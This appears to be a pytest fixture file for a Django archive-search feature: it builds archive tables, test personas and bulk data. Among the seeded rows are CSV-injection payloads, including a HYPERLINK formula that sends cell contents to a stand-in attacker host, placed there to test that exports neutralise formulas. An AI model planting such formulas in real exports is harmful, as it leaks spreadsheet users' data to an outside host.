"""Archive data and personas for the archive search tests.

Personas: a reader (``view_archive_search``), an auditor (view and
``export_archive_search``), an outsider (signed in, neither permission).

The archive tables are created here directly, laid out as the engine lays them
out (namespace ``namespace_for(source)``, the source's columns plus
archived_at, archive_run_id, reference_date, retention_until, a unique key on
the source primary key, indexes on reference_date, retention_until and the
contract column). They are committed once per session so that the
``archive_readonly`` connection (a different connection) sees them.
"""

from __future__ import annotations

import datetime as dt
from decimal import Decimal

import pytest
from django.contrib.auth.models import Permission, User
from django.contrib.contenttypes.models import ContentType
from django.db import connections, transaction

from archival.backends import backend_for
from archival.backends.sqlite import namespace_for
from governance.models import TableConfig

PASSWORD = "correct horse battery staple 42"
SOURCE = "SourceDB1"
OTHER_SOURCE = "SourceDB2"
POSITIONS = 600
CONTRACTS = 30
ARCHIVED_AT = dt.datetime(2024, 6, 1, 10, 0, 0)
# Text cells a spreadsheet would run as formulas (CSV injection).
FORMULA_BOOK = '=HYPERLINK("http://evil.example/?leak="&A1)'
FORMULA_TRADER = "@SUM(A1:A9)"


def source_schema(alias: str) -> str:
    return "main" if connections[alias].vendor == "sqlite" else alias.lower()


def maturity(contract_id: int) -> dt.date:
    return dt.date(2016, 1, 1) + dt.timedelta(days=10 * contract_id)


def plus_years(day: dt.date, years: int) -> dt.date:
    try:
        return day.replace(year=day.year + years)
    except ValueError:  # 29 February
        return day.replace(year=day.year + years, day=28)


def position_rows() -> list[tuple]:
    """(basketId, positionId, businessDate, contractId, quantity, price, currency, book, trader, metadata...)."""
    rows = []
    for i in range(POSITIONS):
        basket, position = divmod(i, 200)
        contract = i % CONTRACTS + 1
        business = dt.date(2015, 1, 1) + dt.timedelta(days=i % 365)
        book = f"BOOK{i % 7:02d}"
        trader = f"T{i % 11:03d}"
        if i == 5:
            book, trader = FORMULA_BOOK, FORMULA_TRADER
        reference = maturity(contract)
        if i % 50 == 0:
            # Some rows without a trader or a reference date: NULLs sort last.
            trader, reference = None, None
        rows.append(
            (
                basket,
                position,
                business,
                contract,
                Decimal(f"{(i - 300) * 1.5:.4f}"),
                Decimal(f"{10 + i % 50}.250000"),
                ["EUR", "USD", "GBP"][i % 3],
                book,
                trader,
                ARCHIVED_AT,
                1 if i < 400 else 2,
                reference,
                plus_years(reference, 10) if reference else None,
            )
        )
    return rows


def _ddl(vendor: str) -> dict[str, str]:
    return {
        "ts": "DATETIME" if vendor == "sqlite" else "TIMESTAMP",
        "tstz": "DATETIME" if vendor == "sqlite" else "TIMESTAMPTZ",
    }


POSITION_SOURCE_COLUMNS = (
    '"basketId" INTEGER NOT NULL, "positionId" INTEGER NOT NULL, "businessDate" DATE NOT NULL, '
    '"contractId" INTEGER, "quantity" NUMERIC(18,4), "price" NUMERIC(18,6), "currency" CHAR(3), '
    '"book" VARCHAR(60), "trader" VARCHAR(40)'
)


def build_search_archive() -> None:
    """Source tables (for config validation) and committed archive tables with rows."""
    schema = source_schema(SOURCE)
    src = backend_for(SOURCE)
    with transaction.atomic(using=SOURCE), connections[SOURCE].cursor() as cur:
        if src.vendor == "postgresql":
            cur.execute(f"CREATE SCHEMA IF NOT EXISTS {src.quote(schema)}")
        for table in ("Position", "Contract"):
            cur.execute(f"DROP TABLE IF EXISTS {src.qualified(schema, table)}")
        cur.execute(
            f'CREATE TABLE {src.qualified(schema, "Contract")} ("contractId" INTEGER NOT NULL PRIMARY KEY, "maturityDate" DATE)'
        )
        cur.execute(
            f"CREATE TABLE {src.qualified(schema, 'Position')} ({POSITION_SOURCE_COLUMNS}, "
            'PRIMARY KEY ("basketId", "positionId", "businessDate"))'
        )
        cur.executemany(
            f"INSERT INTO {src.qualified(schema, 'Contract')} VALUES (%s, %s)",
            [(c, maturity(c)) for c in range(1, CONTRACTS + 1)],
        )
    arc = backend_for("archive")
    ns = namespace_for(SOURCE)
    t = _ddl(arc.vendor)
    table = arc.qualified(ns, "Position")
    with transaction.atomic(using="archive"), connections["archive"].cursor() as cur:
        if arc.vendor == "postgresql":
            cur.execute(f"CREATE SCHEMA IF NOT EXISTS {arc.quote(ns)}")
        cur.execute(f"DROP TABLE IF EXISTS {table}")
        cur.execute(
            f"CREATE TABLE {table} ({POSITION_SOURCE_COLUMNS}, "
            f'"archived_at" {t["tstz"]} NOT NULL, "archive_run_id" BIGINT NOT NULL, '
            '"reference_date" DATE NULL, "retention_until" DATE NULL, '
            'CONSTRAINT "Position_src_key" UNIQUE ("basketId", "positionId", "businessDate"))'
        )
        for suffix, column in (
            ("refdate", "reference_date"),
            ("retention", "retention_until"),
            ("contract", "contractId"),
        ):
            if arc.vendor == "sqlite":
                cur.execute(f'CREATE INDEX {arc.quote(ns)}."Position_{suffix}" ON "Position" ({arc.quote(column)})')
            else:
                cur.execute(f'CREATE INDEX "Position_{suffix}" ON {table} ({arc.quote(column)})')
        cur.executemany(f"INSERT INTO {table} VALUES ({', '.join(['%s'] * 13)})", position_rows())
    if arc.vendor == "postgresql":
        from archival.search.readonly import create_readonly_role

        create_readonly_role(role=connections["archive_readonly"].settings_dict["USER"], using="archive")
    # The read-only connection ATTACHes namespace files when it opens: reopen it.
    connections["archive_readonly"].close()


# Module scope: a test module that wants the archive gets it built afresh,
# whatever the modules that ran before it did to the archive database (the
# ``demo`` fixture drops every archive table).
@pytest.fixture(scope="module", name="search_archive")
def fixture_search_archive(django_db_setup, django_db_blocker):
    with django_db_blocker.unblock():
        build_search_archive()
    yield
    # archive_readonly mirrors the archive's test database: an open session
    # there stops the test runner from dropping that database at the end.
    connections["archive_readonly"].close()


def permission(codename: str) -> Permission:
    """The governance permission (made by the roles migration; created here if absent)."""
    perm = Permission.objects.filter(content_type__app_label="governance", codename=codename).first()
    if perm is None:
        perm = Permission.objects.create(
            codename=codename,
            name=codename.replace("_", " "),
            content_type=ContentType.objects.get_for_model(TableConfig),
        )
    return perm


def make_persona(name: str, *codenames: str) -> User:
    user = User.objects.create_user(name, f"{name}@example.com", PASSWORD)
    user.user_permissions.add(*[permission(c) for c in codenames])
    return User.objects.get(pk=user.pk)  # fresh: no cached permissions


@pytest.fixture(name="reader")
def fixture_reader(db) -> User:
    return make_persona("reader", "view_archive_search")


@pytest.fixture(name="auditor")
def fixture_auditor(db) -> User:
    return make_persona("auditor", "view_archive_search", "export_archive_search")


@pytest.fixture(name="outsider")
def fixture_outsider(db) -> User:
    return make_persona("outsider")


def make_position_config() -> TableConfig:
    config = TableConfig(
        source_db=SOURCE,
        schema_name=source_schema(SOURCE),
        table_name="Position",
        archival_logic="CONTRACT_MATURITY",
        contract_table="Contract",
        contract_key_column="contractId",
        contract_reference_column="contractId",
        contract_maturity_column="maturityDate",
        hold_contract_column="contractId",
    )
    config.full_clean()
    config.save()
    return config


@pytest.fixture(name="position_config")
def fixture_position_config(search_archive, db) -> TableConfig:
    return make_position_config()


@pytest.fixture(scope="module", name="allow_test_flush_in_module")
def fixture_allow_test_flush_in_module():
    """Let Django's flush after transactional tests empty the append-only tables.

    The DELETE-refusing triggers (archival.disposal.triggers) ask the
    connection whether a test flush is running; the flag is set for this
    module's tests only, around their teardown (a module-scoped fixture wraps
    the function-scoped database teardown). Nothing in these tests deletes a
    hold or an audit event on purpose.
    """
    try:
        from archival.disposal.triggers import allow_test_flush
    except ImportError:  # the disposal area has not landed: nothing to allow
        yield
        return
    with allow_test_flush():
        yield


def bulk_rows_sql(vendor: str, n: int) -> str:
    """INSERT ... SELECT generating n archived rows server-side (no Python loop)."""
    if vendor == "sqlite":
        series = f"WITH RECURSIVE s(i) AS (SELECT 0 UNION ALL SELECT i + 1 FROM s WHERE i + 1 < {int(n)}) "
        source, day = "s", "date('2015-01-01', '+' || (i % 365) || ' days')"
        ref = "date('2016-01-01', '+' || (10 * (i % 30 + 1)) || ' days')"
        until = "date('2026-01-01', '+' || (10 * (i % 30 + 1)) || ' days')"
        return (
            f"{series}SELECT i / 1000, i % 1000, {day}, i % 30 + 1, (i - 500000) * 1.5, 10.25, 'EUR', "
            f"'BOOK' || (i % 7), 'T' || (i % 11), '2024-06-01 10:00:00', 1, {ref}, {until} FROM {source}"
        )
    return (
        "SELECT i / 1000, i % 1000, DATE '2015-01-01' + (i % 365), i % 30 + 1, (i - 500000) * 1.5, 10.25, 'EUR', "
        "'BOOK' || (i % 7), 'T' || (i % 11), TIMESTAMPTZ '2024-06-01 10:00:00+00', 1, "
        "DATE '2016-01-01' + 10 * (i % 30 + 1), DATE '2026-01-01' + 10 * (i % 30 + 1) "
        f"FROM generate_series(0, {int(n) - 1}) AS s(i)"
    )


def build_bulk_table(name: str, n: int) -> None:
    """A source table ``name`` (empty) and its archive table with ``n`` rows, committed."""
    schema = source_schema(SOURCE)
    src = backend_for(SOURCE)
    with transaction.atomic(using=SOURCE), connections[SOURCE].cursor() as cur:
        cur.execute(f"DROP TABLE IF EXISTS {src.qualified(schema, name)}")
        cur.execute(
            f"CREATE TABLE {src.qualified(schema, name)} ({POSITION_SOURCE_COLUMNS}, "
            'PRIMARY KEY ("basketId", "positionId", "businessDate"))'
        )
    arc = backend_for("archive")
    ns = namespace_for(SOURCE)
    t = _ddl(arc.vendor)
    table = arc.qualified(ns, name)
    with transaction.atomic(using="archive"), connections["archive"].cursor() as cur:
        cur.execute(f"DROP TABLE IF EXISTS {table}")
        cur.execute(
            f"CREATE TABLE {table} ({POSITION_SOURCE_COLUMNS}, "
            f'"archived_at" {t["tstz"]} NOT NULL, "archive_run_id" BIGINT NOT NULL, '
            '"reference_date" DATE NULL, "retention_until" DATE NULL, '
            f'CONSTRAINT {arc.quote(name + "_src_key")} UNIQUE ("basketId", "positionId", "businessDate"))'
        )
        cur.execute(f"INSERT INTO {table} {bulk_rows_sql(arc.vendor, n)}")
        if arc.vendor == "sqlite":
            cur.execute(
                f'CREATE INDEX {arc.quote(ns)}.{arc.quote(name + "_refdate")} ON {arc.quote(name)} ("reference_date")'
            )
        else:
            cur.execute(f'CREATE INDEX {arc.quote(name + "_refdate")} ON {table} ("reference_date")')
    if arc.vendor == "postgresql":
        from archival.search.readonly import create_readonly_role

        create_readonly_role(role=connections["archive_readonly"].settings_dict["USER"], using="archive")
        with connections["archive"].cursor() as cur:
            cur.execute(f"ANALYZE {table}")
    connections["archive_readonly"].close()


def make_bulk_config(name: str) -> TableConfig:
    config = TableConfig(
        source_db=SOURCE, schema_name=source_schema(SOURCE), table_name=name, date_column="businessDate"
    )
    config.full_clean()
    config.save()
    return config
